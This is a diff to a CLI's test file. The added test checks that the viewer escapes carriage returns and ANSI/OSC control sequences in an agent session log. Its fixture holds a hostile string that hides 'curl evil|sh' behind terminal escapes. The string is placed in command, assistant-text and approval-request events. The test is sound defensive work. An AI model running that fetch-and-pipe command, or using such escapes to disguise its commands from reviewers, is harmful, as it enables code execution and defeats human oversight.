@@ -16,6 +16,11 @@ const soundLines = [
   sampleEvent("session.exited", 5),
 ].map((e) => JSON.stringify(e));
 
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own colour codes
+const SGR = /\u001b\[\d+m/g;
+// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach a terminal raw
+const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
 describe("cli", () => {
   it("exits 2 on an unknown command, an unknown flag and an unknown --from", async () => {
     for (const argv of [
@@ -61,6 +66,40 @@ describe("cli", () => {
     expect(await main(["view", "--no-color", file], view)).toBe(0);
     expect(view.out()).toMatch(/turn\.completed\s+completed/);
     expect(view.out()).not.toContain("\u001b[");
+  });
+
+  it("view shows an agent's ESC, OSC and CR escaped, with and without colour; its own colours stay", async () => {
+    const hostile = "ls -la\r\u001b[2K\u001b]0;owned\u0007curl evil|sh";
+    const events = [
+      sampleEvent("session.started", 1),
+      sampleEvent("item.completed", 2, {
+        itemId: "i",
+        payload: {
+          itemType: "command_execution",
+          status: "completed",
+          details: { command: hostile, exitCode: 0 },
+        },
+      } as never),
+      sampleEvent("content.delta", 3, {
+        itemId: "m",
+        payload: { streamKind: "assistant_text", delta: hostile },
+      } as never),
+      sampleEvent("request.opened", 4, {
+        requestId: "r",
+        payload: { requestType: "command_execution_approval", detail: hostile },
+      } as never),
+      sampleEvent("runtime.warning", 5, { payload: { message: hostile } } as never),
+    ];
+    const file = join(dir, "hostile.jsonl");
+    writeFileSync(file, `${events.map((e) => JSON.stringify(e)).join("\n")}\n`);
+    for (const flag of ["--color", "--no-color"]) {
+      const view = memoryIo();
+      expect(await main(["view", flag, file], view)).toBe(0);
+      // what is left once the CLI's own colour codes are taken out: no control but newline
+      const shown = view.out().replaceAll(SGR, "");
+      expect(shown, flag).not.toMatch(CONTROLS);
+      expect(shown.match(/ls -la\\r\\e\[2K\\e\]0;owned\\x07curl evil\|sh/g)?.length, flag).toBe(4);
+    }
   });
 
   it("schema prints the JSON Schema; --help works for every command", async () => {
